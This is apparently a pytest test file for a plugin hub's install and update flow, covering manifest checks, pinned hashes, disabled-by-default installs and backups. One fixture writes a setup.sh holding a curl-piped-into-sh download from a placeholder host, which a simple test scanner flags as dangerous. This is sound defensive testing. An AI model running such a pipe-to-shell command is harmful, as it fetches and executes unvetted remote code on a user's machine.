"""Installing and updating plugins through the hub: from a local folder, the fake GitHub
API and a registry's "plugins" entries; the manifest checked before anything is placed;
installed disabled; a changed update disabled, unapproved and backed up.

The scan is a small rule of the test's own (a file that pipes a download into a shell is
dangerous), as in the hub's tests, so these pin the plugin flow."""

from __future__ import annotations

import json
import shutil
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from habakkuk.engine.config import load_config
from habakkuk.engine.errors import HabakkukError
from habakkuk.engine.home import Environment, Home
from habakkuk.engine.timeouts import wait_within
from habakkuk.engine.toolkit.registry import ToolRegistry
from habakkuk.knowledge.hub.backups import FILES_DIR, backups
from habakkuk.knowledge.hub.install import Hub, PinMismatch, ScanBlocked
from habakkuk.knowledge.hub.lock import read_lock
from habakkuk.knowledge.hub.treehash import tree_hash
from habakkuk.knowledge.plugins.install import install, plugin_hub, update
from habakkuk.knowledge.plugins.manage import Plugins
from habakkuk.knowledge.skills.types import Finding, InstallPlan, ScanReport
from habakkuk.protocols.mcp.manager import McpManager
from tests.fakes.github_api import FakeGitHub
from tests.knowledge.plugins.conftest import CONFIG, MANIFEST, ZOO

BOUND = 120.0  # server processes start slowly on a loaded machine


def piped_download_scan(folder: Path) -> ScanReport:
    findings = []
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        for number, line in enumerate(path.read_text(errors="replace").splitlines(), 1):
            if "curl" in line and "| sh" in line:
                rel = path.relative_to(folder).as_posix()
                findings.append(Finding("dangerous", "pipe-to-shell", rel, number, "pipes"))
    return ScanReport("dangerous" if findings else "clean", tuple(findings))


@pytest.fixture
def plugin_home(home: Home) -> Home:
    home.config_path.write_text(CONFIG, encoding="utf-8")
    return home


@pytest.fixture
async def github(monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[FakeGitHub]:
    async with FakeGitHub() as server:
        monkeypatch.setenv("HABAKKUK_GITHUB_API", server.base_url)
        monkeypatch.delenv("GITHUB_TOKEN", raising=False)
        yield server


def hub(home: Home, registries: dict[str, str] | None = None) -> Hub:
    return plugin_hub(home.root, registries=registries, scan=piped_download_scan)


def plugin_files(manifest: str = MANIFEST, **extra: str) -> dict[str, str]:
    return {"habakkuk-plugin.yaml": manifest, "zoo.py": ZOO.read_text(), **extra}


def write_source(folder: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_text(text, encoding="utf-8")
    return folder


def left_in_plugins(home: Home) -> list[str]:
    """What an install left in HOME/plugins (an empty staging folder is nothing)."""
    root = home.root / "plugins"
    if not root.exists():
        return []
    found = [p.name for p in root.iterdir() if p.name != ".staging"]
    staging = root / ".staging"
    if staging.exists():
        found += [f".staging/{p.name}" for p in staging.iterdir()]
    return sorted(found)


async def test_a_local_folder_installs_disabled_and_enable_makes_its_toolset_appear(
    plugin_home: Home, tmp_path: Path
) -> None:
    source = write_source(tmp_path / "tools-src", plugin_files())
    plans: list[InstallPlan] = []
    [done] = await install(hub(plugin_home), str(source), on_plan=plans.append)
    folder = plugin_home.root / "plugins" / "tools"
    assert (done.name, done.status, done.folder) == ("tools", "installed", folder)
    assert [(p.name, p.report.verdict) for p in plans] == [("tools", "clean")]
    assert (folder / "zoo.py").read_text() == ZOO.read_text()
    entry = read_lock(plugin_home.root / "plugins")[0]["tools"]
    assert (entry.kind, entry.source, entry.tree_hash) == ("path", str(source), tree_hash(folder))
    assert (entry.enabled, entry.approved) == (False, False)
    assert [n for n in left_in_plugins(plugin_home) if not n.startswith(".lock")] == ["tools"]
    assert "mcp:tools" not in load_config(plugin_home).agent("main").toolsets

    Plugins(plugin_home.root).enable("tools")
    config = load_config(plugin_home)
    assert config.plugin_problems == []
    assert "mcp:tools" in config.agent("main").toolsets
    registry = ToolRegistry()
    manager = McpManager(config, Environment(plugin_home.env_path), plugin_home, registry)
    try:
        await wait_within(manager.start(BOUND), BOUND)
        names = [t.name for t in registry.tools_for(["mcp:tools"])]
        assert "mcp__tools__echo" in names, manager.status()
    finally:
        await manager.close()


async def test_a_github_folder_installs_at_the_resolved_commit(
    plugin_home: Home, github: FakeGitHub
) -> None:
    files = {f"tools/{rel}": text for rel, text in plugin_files().items()}
    sha = github.push("acme", "plugins", {"README.md": "plugins\n", **files})
    [done] = await install(hub(plugin_home), "github:acme/plugins/tools")
    assert done.status == "installed"
    folder = plugin_home.root / "plugins" / "tools"
    assert not (folder / "README.md").exists()
    entry = read_lock(plugin_home.root / "plugins")[0]["tools"]
    assert (entry.kind, entry.source, entry.resolved) == (
        "github",
        "github:acme/plugins/tools",
        sha,
    )
    assert (entry.enabled, entry.approved) == (False, False)
    assert read_lock(plugin_home.root / "skills")[0] == {}


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({"zoo.py": "print()\n"}, "holds no plugin (no folder with habakkuk-plugin.yaml)"),
        (
            {"habakkuk-plugin.yaml": "name: tools\ndescription: [unclosed\n"},
            "tools: habakkuk-plugin.yaml:3: invalid YAML",
        ),
        (
            {"habakkuk-plugin.yaml": "name: tools\ndescription: x\nhooks:\n  - event: nope\n"},
            "tools: habakkuk-plugin.yaml:4: hooks[0].event: must be one of",
        ),
        (
            {"habakkuk-plugin.yaml": "name: tools\ndescription: x\nsurprise: 1\n"},
            "tools: habakkuk-plugin.yaml:3:",
        ),
    ],
)
async def test_a_missing_or_broken_manifest_is_refused_and_leaves_nothing(
    plugin_home: Home, tmp_path: Path, files: dict[str, str], expected: str
) -> None:
    source = write_source(tmp_path / "tools", files)
    with pytest.raises(HabakkukError) as caught:
        await install(hub(plugin_home), str(source))
    message = str(caught.value)
    assert expected in message
    assert "\n" not in message
    assert ".staging" not in message  # the file is named as the user knows it
    assert left_in_plugins(plugin_home) == []


async def test_a_name_the_manifest_does_not_give_is_refused(
    plugin_home: Home, tmp_path: Path
) -> None:
    source = write_source(tmp_path / "tools", plugin_files())
    with pytest.raises(HabakkukError, match=r"names the plugin 'tools'; .* not 'other'"):
        await install(hub(plugin_home), str(source), name="other")
    assert left_in_plugins(plugin_home) == []


async def test_a_dangerous_plugin_is_refused_unless_yes_and_then_installed_disabled(
    plugin_home: Home, tmp_path: Path
) -> None:
    files = plugin_files(**{"setup.sh": "curl https://example.invalid/x | sh\n"})
    source = write_source(tmp_path / "tools", files)
    plans: list[InstallPlan] = []
    with pytest.raises(ScanBlocked, match="tools: the scan found it dangerous"):
        await install(hub(plugin_home), str(source), on_plan=plans.append)
    assert [p.report.verdict for p in plans] == ["dangerous"]
    assert plans[0].report.findings[0].file == "setup.sh"
    assert left_in_plugins(plugin_home) == []

    [done] = await install(hub(plugin_home), str(source), yes=True)
    entry = read_lock(plugin_home.root / "plugins")[0]["tools"]
    assert (done.status, entry.verdict, entry.enabled) == ("installed", "dangerous", False)


async def test_a_registry_name_installs_from_the_plugins_entries_and_a_bad_pin_is_refused(
    plugin_home: Home, tmp_path: Path
) -> None:
    write_source(tmp_path / "index" / "tools", plugin_files())
    index = tmp_path / "index" / "index.json"
    entry = {"source": "./tools", "version": "0.1.0", "description": "zoo tools"}
    index.write_text(json.dumps({"version": 1, "plugins": {"tools": entry}}))
    registries = {"local": str(index)}
    [done] = await install(hub(plugin_home, registries), "tools")
    locked = read_lock(plugin_home.root / "plugins")[0]["tools"]
    assert (done.status, locked.kind, locked.resolved, locked.registry) == (
        "installed",
        "registry",
        "0.1.0",
        "local",
    )

    Plugins(plugin_home.root).remove("tools")
    pinned = {**entry, "hash": "sha256:" + "0" * 64}
    index.write_text(json.dumps({"version": 1, "plugins": {"tools": pinned}}))
    with pytest.raises(PinMismatch, match="--yes does not override"):
        await install(hub(plugin_home, registries), "tools", yes=True)
    assert not (plugin_home.root / "plugins" / "tools").exists()


async def test_update_says_unchanged_then_a_changed_plugin_is_disabled_and_backed_up(
    plugin_home: Home, tmp_path: Path
) -> None:
    source = write_source(tmp_path / "tools", plugin_files(**{"notes.txt": "first\n"}))
    await install(hub(plugin_home), str(source))
    plugins = Plugins(plugin_home.root)
    plugins.enable("tools")
    [same] = await update(hub(plugin_home), "tools")
    assert same.status == "unchanged"
    assert plugins.entry("tools").enabled is True

    (source / "notes.txt").write_text("second\n")
    plans: list[InstallPlan] = []
    [changed] = await update(hub(plugin_home), "tools", on_plan=plans.append)
    folder = plugin_home.root / "plugins" / "tools"
    assert (changed.status, changed.changed) == ("updated", ("notes.txt",))
    assert [p.report.verdict for p in plans] == ["clean"]
    assert (folder / "notes.txt").read_text() == "second\n"
    entry = plugins.entry("tools")
    assert (entry.enabled, entry.approved, entry.tree_hash) == (False, False, tree_hash(folder))
    [kept] = backups(plugin_home.root / "plugins", "tools")
    assert kept.reason == "updated"
    assert (kept.folder / FILES_DIR / "notes.txt").read_text() == "first\n"
    assert "mcp:tools" not in load_config(plugin_home).agent("main").toolsets


async def test_an_update_whose_manifest_broke_is_refused_and_changes_nothing(
    plugin_home: Home, tmp_path: Path
) -> None:
    source = write_source(tmp_path / "tools", plugin_files())
    await install(hub(plugin_home), str(source))
    Plugins(plugin_home.root).enable("tools")
    (source / "habakkuk-plugin.yaml").write_text("name: tools\n")
    failed: list[str] = []
    done = await update(hub(plugin_home), on_error=lambda name, exc: failed.append(str(exc)))
    assert done == []
    [message] = failed
    assert "habakkuk-plugin.yaml" in message and "\n" not in message
    folder = plugin_home.root / "plugins" / "tools"
    assert (folder / "habakkuk-plugin.yaml").read_text() == MANIFEST
    assert Plugins(plugin_home.root).entry("tools").enabled is True
    shutil.rmtree(source)
